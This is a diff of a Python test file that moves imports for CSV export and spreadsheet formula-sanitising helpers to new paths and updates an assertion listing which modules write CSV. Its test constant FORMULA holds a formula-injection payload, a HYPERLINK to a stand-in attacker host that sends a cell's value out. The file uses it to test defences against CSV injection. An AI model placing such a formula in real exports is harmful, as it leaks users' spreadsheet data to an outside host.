@@ -12,15 +12,15 @@ from fake_runs import make_run
 from hypothesis import given
 from hypothesis import strategies as st
 
-from app import loaders
-from app.compare_frames import differences_csv
-from app.data_frames import MOST_SHOWN, on_screen
-from app.run_exports import runs_csv
-from app.run_table import table
-from finegates.point import Point
-from finegates.run_notes import write_notes
-from finegates.spreadsheet import FORMULA_STARTS, csv_text, harmless, no_formulas
-from finegates.tables import as_csv
+from app.curves.frames import differences_csv
+from app.data.frames import MOST_SHOWN, on_screen
+from app.reading import loaders
+from app.run_table.table import table
+from app.runs.run_files import runs_csv
+from finegates.files.spreadsheet import FORMULA_STARTS, csv_text, harmless, no_formulas
+from finegates.results.point import Point
+from finegates.results.tables import as_csv
+from finegates.runs.notes import write_notes
 
 ROOT = Path(__file__).resolve().parents[2]
 FORMULA = '=HYPERLINK("http://evil.example/"&A1)'
@@ -96,4 +96,4 @@ def test_no_other_code_of_the_app_writes_csv():
         for node in ast.walk(ast.parse(path.read_text())):
             if isinstance(node, ast.Attribute) and node.attr in ("to_csv", "writer", "DictWriter"):
                 writers.add(path.relative_to(ROOT).as_posix())
-    assert writers == {"finegates/spreadsheet.py", "finegates/sample.py"}
+    assert writers == {"finegates/files/spreadsheet.py", "finegates/data/sample.py"}
